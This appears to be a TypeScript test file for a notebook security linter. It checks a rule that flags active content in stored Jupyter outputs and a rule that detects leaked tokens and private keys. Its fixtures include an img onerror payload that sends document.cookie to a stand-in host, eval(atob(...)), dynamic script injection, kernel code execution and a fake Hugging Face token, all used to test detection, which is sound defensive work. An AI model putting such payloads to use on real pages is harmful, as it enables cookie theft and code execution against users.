/** Stored outputs: what runs when they are shown, what is data, and where in the file it stands. */

import assert from 'node:assert/strict';
import { cell, notebook } from '../kit/notebooks.ts';
import { only, service } from '../kit/service.ts';

/** "severity: marked text" of the findings of one rule in a notebook. */
function found(text: string, rule = 'active-output'): readonly string[] {
  const { findings } = service.check({ uri: 'file:///a.ipynb', language: 'notebook', text }, only([rule]));
  const lines = text.split('\n');
  return findings.map(({ severity, range: { start, end } }) => {
    const last = end.line === start.line ? end.character : lines[start.line]!.length;
    return `${severity}: ${lines[start.line]!.slice(start.character, last)}`;
  });
}

function output(mime: string, content: unknown): string {
  return notebook([
    cell('show()', { count: 1, outputs: [{ output_type: 'display_data', data: { [mime]: content }, metadata: {} }] }),
  ]);
}

const html = (content: string) => found(output('text/html', content.split(/(?<=\n)/)));
const severities = (all: readonly string[]) => all.map((it) => it.slice(0, it.indexOf(':')));

describe('active-output', () => {
  it('finds handlers of what happens in the page that load or send something', () => {
    const sends = `<img src=x onerror="fetch('https://collect.example.com/?c='+document.cookie)">`;
    assert.deepEqual(severities(html(sends)), ['warning']);
    assert.deepEqual(severities(html(`<button onclick="toggle(this)">more</button>`)), []);
  });

  it('finds scripts from elsewhere, unless a hash pins them', () => {
    assert.deepEqual(html('<div>\n<script src="https://cdn.example.com/a.js"></script>\n</div>'), [
      'warning: <script src=\\"https://cdn.example.com/a.js\\">',
    ]);
    for (const tag of [
      "<SCRIPT async SRC='//cdn.example.com/a.js'>",
      '<script src=https://unpkg.com/vue></script>',
      '<script type="module" src="https://cdn.plot.ly/plotly-latest.min.js"></script>',
      '<iframe srcdoc="&lt;script src=&quot;https://cdn.example.com/a.js&quot;&gt;&lt;/script&gt;"></iframe>',
    ]) {
      assert.deepEqual(severities(html(tag)), ['warning'], tag);
    }
    for (const tag of [
      '<script src="https://cdn.plot.ly/plotly-2.35.2.min.js"></script>',
      '<script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js"></script>',
    ]) {
      assert.deepEqual(severities(html(tag)), ['information'], tag);
    }
    for (const shown of [
      '<td>&lt;script src="https://cdn.example.com/a.js"&gt;&lt;/script&gt;</td>',
      '<a href="notes.html">&lt;iframe src=https://example.com/&gt;</a><iframe srcdoc="&lt;b&gt;x&lt;/b&gt;"></iframe>',
    ]) {
      assert.deepEqual(html(shown), [], shown);
    }
    assert.deepEqual(html('<script src="https://a.example/x.js" integrity="sha384-x"></script>'), []);
  });

  it('finds scripts of the output itself, more so when they bring in others or run code', () => {
    assert.deepEqual(severities(html('<script>document.title = "x"</script>')), ['warning']);
    assert.deepEqual(severities(html('<script>Plotly.newPlot("a", [])</script>')), ['hint']);
    for (const code of [
      'fetch("https://example.com/x")',
      "import('https://example.com/x.js')",
      'Jupyter.notebook.kernel.execute("import os")',
      'require.config({paths: {vega: "https://cdn.jsdelivr.net/npm/vega@5?noext"}}); Plotly',
      'var s = document.createElement("script"); s.src = "https://example.com/x.js"; document.body.appendChild(s)',
      'eval(atob("YQ=="))',
    ]) {
      assert.deepEqual(severities(html(`<p>x</p><script>google.colab; ${code}</script>`)), ['warning'], code);
      assert.deepEqual(severities(found(output('application/javascript', code))), ['warning'], code);
    }
    const pinned = 'require.config({paths: {plotly: ["https://cdn.plot.ly/plotly-2.27.0.min"]}}); Plotly.x';
    assert.deepEqual(severities(html(`<script>${pinned}</script>`)), ['hint']);
    assert.deepEqual(severities(found(output('image/svg+xml', ['<svg><script>alert(1)</script></svg>']))), ['warning']);
  });

  it('tells one output with many scripts once', () => {
    assert.equal(html('<script>a()</script>'.repeat(40)).length, 1);
    assert(html('<script src="https://e.example/a.js"></script>'.repeat(40)).length <= 1);
  });

  it('finds frames of others, and is quiet about films', () => {
    assert.deepEqual(severities(html('<iframe width="9" src="https://abc.gradio.live/"></iframe>')), ['warning']);
    assert.deepEqual(severities(html('<iframe src="https://www.youtube.com/embed/x"></iframe>')), ['hint']);
    assert.deepEqual(html('<iframe src="http://localhost:6006/"></iframe><iframe src="chart.html"></iframe>'), []);
  });

  it('finds widgets that bring their code along', () => {
    const state = (values: object) => ({
      widgets: { 'application/vnd.jupyter.widget-state+json': { state: { a1: { model_name: 'X', state: values } } } },
    });
    assert.deepEqual(severities(found(notebook([], 'python', state({ _esm: 'export default {}' })))), ['information']);
    assert.deepEqual(found(notebook([], 'python', state({ _esm: 'https://esm.sh/x' }))), ['warning: https://esm.sh/x']);
    assert.deepEqual(found(notebook([], 'python', state({ value: '<script src="https://x.example"></script>' }))), []);
  });

  it('is silent about data', () => {
    assert.deepEqual(html('<table><tr><td>&amp; script</td></tr></table>'), []);
    assert.deepEqual(html('<script type="application/json">{"a": 1}</script>'), []);
    assert.deepEqual(found(output('text/plain', '<script src="https://x.example"></script>')), []);
    assert.deepEqual(
      found(notebook([cell('x', { outputs: [{ output_type: 'stream', text: '<script>x()</script>' }] })])),
      [],
    );
    assert.deepEqual(found(output('application/javascript', '')), []);
  });

  it('reads notebooks of version 3', () => {
    const code = {
      cell_type: 'code',
      input: 'x',
      outputs: [{ output_type: 'display_data', html: '<script>x()</script>' }],
    };
    assert.deepEqual(severities(found(JSON.stringify({ worksheets: [{ cells: [code] }] }))), ['warning']);
  });

  it('is accepted by a comment in the cell', () => {
    const outputs = [{ output_type: 'display_data', data: { 'text/html': '<script>x()</script>' } }];
    assert.deepEqual(found(notebook([cell('# loadguard: ignore[active-output] ours\nshow()', { outputs })])), []);
    assert.equal(found(notebook([cell('# loadguard: ignore[other] ours\nshow()', { outputs })])).length, 1);
  });
});

describe('exposed-secret in notebooks', () => {
  const token = ['hf', 'qXbPdRtYuIoLkJhGfDsAzXcVbNmQwErTyU'].join('_');
  const secrets = (text: string) => found(text, 'exposed-secret');
  const outputs = (...all: readonly object[]) => notebook([cell('x', { outputs: all })]);

  it('is found wherever a notebook keeps text', () => {
    const texts = [
      outputs({ output_type: 'stream', name: 'stdout', text: ['ok\n', `env: HF_TOKEN=${token}\n`] }),
      outputs({ output_type: 'execute_result', data: { 'text/plain': [`'${token}'`] } }),
      outputs({ output_type: 'execute_result', data: { 'application/json': { deep: [{ token }] } } }),
      outputs({ output_type: 'display_data', data: { 'text/html': `<b>${token}</b>` } }),
      outputs({ output_type: 'error', ename: 'E', evalue: 'x', traceback: ['\u001b[0;31mE\u001b[0m', `bad ${token}`] }),
      notebook([cell(`Use ${token}`, { kind: 'markdown' })]),
      notebook([cell('x', { metadata: { note: token } })]),
      notebook([cell('# a', { kind: 'markdown', attachments: { 'a.txt': { 'text/plain': [token] } } })]),
      notebook([cell(`%env HF_TOKEN=${token}`)]),
      notebook([cell(`!huggingface-cli login --token ${token}`)]),
      notebook([cell(`%%bash\nexport HF_TOKEN=${token}`)]),
      notebook([], 'python', { widgets: { state: { value: token } } }),
    ];
    for (const text of texts) {
      assert.deepEqual(secrets(text).length, 1, text);
      assert(secrets(text)[0]!.includes(token), text);
    }
  });

  it('is found between the colours of a traceback', () => {
    const [quote, key, plain] = ['\u001b[33m"', `\u001b[39m\u001b[33m${token}`, '\u001b[39m'];
    for (const line of [`login(token=${quote}${key}${quote}${plain})`, `${key}`, `\u001b[0;31m${token}\u001b[0m!`]) {
      const told = secrets(outputs({ output_type: 'error', ename: 'E', evalue: 'x', traceback: ['a', line] }));
      assert.deepEqual(told, [`error: ${token}`]);
    }
  });

  it('is found in a traceback whose lines were stored one by one', () => {
    const noise = (seed: number) =>
      Array.from(
        { length: 64 },
        (_, i) => 'ABCDEFGHijklmnopQRSTUVWXyz0123456789+/'[(i * i * 7 + i * seed + seed) % 38],
      ).join('');
    const begin = ['-----BEGIN RSA', 'PRIVATE KEY-----'].join(' ');
    const traceback = [`key = '${begin}`, ...[3, 5, 11, 13].map(noise), `${begin.replace('BEGIN', 'END')}'`];
    assert.equal(secrets(outputs({ output_type: 'error', ename: 'E', evalue: 'x', traceback })).length, 1);
  });

  it('is not looked for in pictures, and told once for each cell', () => {
    assert.deepEqual(secrets(outputs({ output_type: 'display_data', data: { 'image/png': token } })), []);
    const text = [`${token}\n`, `again ${token}\n`];
    assert.equal(secrets(outputs({ output_type: 'stream', text }, { output_type: 'stream', text })).length, 1);
  });

  it('is never shown', () => {
    const report = service.check({
      uri: 'file:///a.ipynb',
      language: 'notebook',
      text: outputs({ output_type: 'stream', text: token }),
    });
    assert(!JSON.stringify(report.findings).includes(token));
  });
});
